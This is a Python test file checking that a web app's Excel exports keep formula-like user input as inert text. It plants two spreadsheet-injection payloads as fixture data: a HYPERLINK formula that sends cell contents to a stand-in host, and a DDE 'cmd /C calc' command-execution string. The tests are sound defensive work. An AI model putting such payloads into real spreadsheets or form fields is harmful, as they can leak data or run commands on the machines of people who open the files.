"""Issue 16.3: text that a spreadsheet would run as a formula is stored as text in every workbook the
app writes (the list's summary, the API's, the overview's, a form's own export)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from web_helpers import record_for

from jixiao.web.forms.store import save_form
from jixiao.web.models import Phase

PROJECT = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def poisoned(web_cast, seed_records):
    web_cast.unit_a.name = UNIT
    web_cast.unit_a.save()
    return save_form(web_cast.clerk_a, record_for(seed_records, 2, web_cast.unit_a, project=PROJECT) | {"unit": UNIT},
                     unit=web_cast.unit_a, phase=Phase.SELF)


def _no_formula_anywhere(data: bytes) -> list[str]:
    """Every text cell of the workbook; fails if any cell is a formula (in the file itself, not as read)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("url", ["/forms/summary.xlsx", "/api/forms/summary.xlsx", "/review/overview.xlsx?year=2019"])
def test_summaries_keep_formula_text_as_text(web_cast, poisoned, url):
    response = web_cast.client("finance").get(url)
    assert response.status_code == 200
    texts = _no_formula_anywhere(response.content)
    assert UNIT in texts
    if "overview" not in url:  # the overview counts per unit; it names no project
        assert PROJECT in texts


def test_a_form_exported_alone_keeps_formula_text_as_text(web_cast, poisoned):
    response = web_cast.client("clerk_a").get(f"/forms/{poisoned.pk}/export.xlsx")
    assert response.status_code == 200
    assert PROJECT in _no_formula_anywhere(response.content)
